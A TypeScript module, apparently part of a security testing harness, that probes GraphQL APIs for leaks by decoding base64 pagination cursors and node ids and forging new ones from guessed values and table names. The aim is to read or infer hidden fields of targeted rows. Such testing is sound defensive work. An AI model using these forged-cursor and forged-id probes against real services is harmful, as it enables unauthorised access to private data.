/** Node ids and cursors: opaque to clients, and base64 to anybody else. */
import type { Family } from '../channels/channel.ts';
import { decoded } from './sort.ts';

export const identifier: Family = {
  name: 'node ids and cursors',
  async graphql(scene) {
    const { list, orderBy, type } = scene.names;
    const among = `filter: { id: { in: [${scene.victims.map(({ id }) => `"${id}"`).join(', ')}] } }`;
    for (const order of orderBy) {
      const { data, text } = await scene.ask(`{ ${list}(first: 50, orderBy: [${order}], ${among}) { pageInfo { startCursor endCursor } edges { cursor node { id nodeId } } } }`);
      scene.dump({ text: decoded(text) });
      // a cursor of the attacker's own making, which asks for what comes after a value
      const cursor = (data as Record<string, { pageInfo: { endCursor: string } } | undefined> | null)?.[list]?.pageInfo.endCursor;
      if (cursor === undefined || scene.targets.length === 0) continue;
      const [ordering] = JSON.parse(Buffer.from(cursor, 'base64').toString()) as unknown[];
      const victim = scene.victims[0]!;
      for (const target of scene.targets.slice(0, 2)) {
        const forged = Buffer.from(JSON.stringify([ordering, victim.guesses.get(target)![0], victim.id])).toString('base64');
        scene.dump(await scene.ask(`{ ${list}(first: 5, orderBy: [${order}], after: "${forged}", ${among}) { edges { cursor } } }`));
      }
    }
    for (const victim of scene.victims) {
      for (const id of [`["${scene.names.list}","${victim.id}"]`, `["${type}","${victim.id}"]`, `["api","${scene.relation.view}","${victim.id}"]`]) {
        const fields = scene.targets.map(({ column }) => scene.names.field(column)).filter((name) => scene.names.fields.has(name)).join(' ');
        const reply = await scene.ask(`{ node(nodeId: "${Buffer.from(id).toString('base64')}") { nodeId ... on ${type} { id ${fields} } } }`);
        for (const target of scene.targets) scene.claim(target, victim, reply.text);
      }
    }
  },
};
